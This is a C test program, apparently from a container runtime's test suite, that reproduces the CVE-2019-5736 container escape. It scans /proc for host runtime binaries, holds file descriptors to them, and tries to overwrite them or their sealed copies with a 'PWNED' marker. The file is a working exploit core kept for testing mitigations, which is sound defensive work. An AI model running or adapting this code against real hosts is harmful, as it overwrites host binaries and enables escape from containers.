/* SPDX-License-Identifier: Apache-2.0 */
/* A hostile container process for the CVE-2019-5736 tests: for SECONDS it
 * scans /proc for processes whose /proc/PID/exe is a runtime binary on the
 * host (its path contains MATCH), holds an O_PATH fd of each, and reopens
 * it for writing as soon as it is no longer busy; it also tries to write
 * through every sealed copy it finds (a memfd, or the binary in a detached
 * read-only mount, whose path leads nowhere here). It prints what it reached, and
 * every second a summary line:
 *   summary: seen=N denied=N sealed=N reached=N overwrote=N
 * denied: processes whose exe it could not read (non-dumpable), sealed:
 * processes running a sealed copy, reached: O_PATH fds of a host runtime
 * binary, overwrote: successful writes (into the host binary or a copy).
 * Static, libc only. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <linux/magic.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>

#define MAX_PIDS 8192
#define MAX_HELD 64

struct pid_set {
	int pids[MAX_PIDS];
	int n;
};

static struct pid_set seen, denied_set, sealed_set, reached_set;
static int held[MAX_HELD];
static int n_held;
static int reached, overwrote;

/* Add pid to s: 1 when it is new. */
static int add_pid(struct pid_set *s, int pid)
{
	for (int i = 0; i < s->n; i++)
		if (s->pids[i] == pid)
			return 0;
	if (s->n < MAX_PIDS)
		s->pids[s->n++] = pid;
	return 1;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void summary(void)
{
	printf("summary: seen=%d denied=%d sealed=%d reached=%d overwrote=%d\n", seen.n,
	       denied_set.n, sealed_set.n, reached, overwrote);
	fflush(stdout);
}

/* Write a marker at offset 0 through fd (a writable open of the target). */
static int scribble(int fd)
{
	return pwrite(fd, "PWNED", 5, 0) == 5;
}

static void try_sealed(int pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0 && scribble(fd)) {
		printf("WROTE sealed copy via /proc/%d/exe\n", pid);
		overwrote++;
	}
	if (fd >= 0)
		close(fd);
}

/* A sealed copy: a memfd, or a file in a read-only overlayfs mount that
 * its path (target, read from exe) does not reach from here: a runtime
 * binary in a detached mount. */
static int is_sealed_copy(const char *exe, const char *target)
{
	struct statfs sf;
	struct stat a, b;

	if (strncmp(target, "/memfd:", 7) == 0)
		return 1;
	if (statfs(exe, &sf) < 0 || sf.f_type != OVERLAYFS_SUPER_MAGIC ||
	    (sf.f_flags & ST_RDONLY) == 0)
		return 0;
	return stat(target, &a) < 0 || stat(exe, &b) < 0 || a.st_dev != b.st_dev ||
	       a.st_ino != b.st_ino;
}

static void look_at(int pid, const char *match)
{
	char path[64], target[4096];
	ssize_t n;
	int fd;

	/* A pid is looked at on every scan: the runtime's process is first
	 * non-dumpable, then (as an interpreter) a sealed copy. */
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	(void)add_pid(&seen, pid);
	n = readlink(path, target, sizeof(target) - 1);
	if (n < 0) {
		if (errno == EACCES || errno == EPERM)
			(void)add_pid(&denied_set, pid);
		return;
	}
	target[n] = '\0';
	if (is_sealed_copy(path, target)) {
		if (add_pid(&sealed_set, pid)) {
			printf("sealed: /proc/%d/exe is %s\n", pid, target);
			try_sealed(pid);
		}
		return;
	}
	if (strstr(target, match) == NULL || n_held >= MAX_HELD || !add_pid(&reached_set, pid))
		return;
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	printf("REACHED runtime binary %s via /proc/%d/exe\n", target, pid);
	fflush(stdout);
	reached++;
	held[n_held++] = fd;
}

/* Reopen every held fd for writing; keep those still being executed. */
static void try_held(void)
{
	char path[64];
	int keep = 0;

	for (int i = 0; i < n_held; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && scribble(fd)) {
			printf("OVERWROTE runtime binary via %s\n", path);
			overwrote++;
		}
		if (fd < 0 && errno == ETXTBSY) {
			held[keep++] = held[i];
			continue;
		}
		if (fd >= 0)
			close(fd);
		close(held[i]);
	}
	n_held = keep;
}

static void scan(const char *match)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int self = getpid();

	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		int pid = atoi(e->d_name);

		if (pid > 0 && pid != self)
			look_at(pid, match);
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	double end, next;

	if (argc != 3) {
		fprintf(stderr, "usage: exe-attack SECONDS MATCH\n");
		return 2;
	}
	printf("exe-attack: watching for %s s, target '%s'\n", argv[1], argv[2]);
	fflush(stdout);
	end = now() + atof(argv[1]);
	next = now() + 1;
	while (now() < end) {
		scan(argv[2]);
		try_held();
		if (now() >= next) {
			summary();
			next += 1;
		}
	}
	summary();
	return overwrote > 0;
}
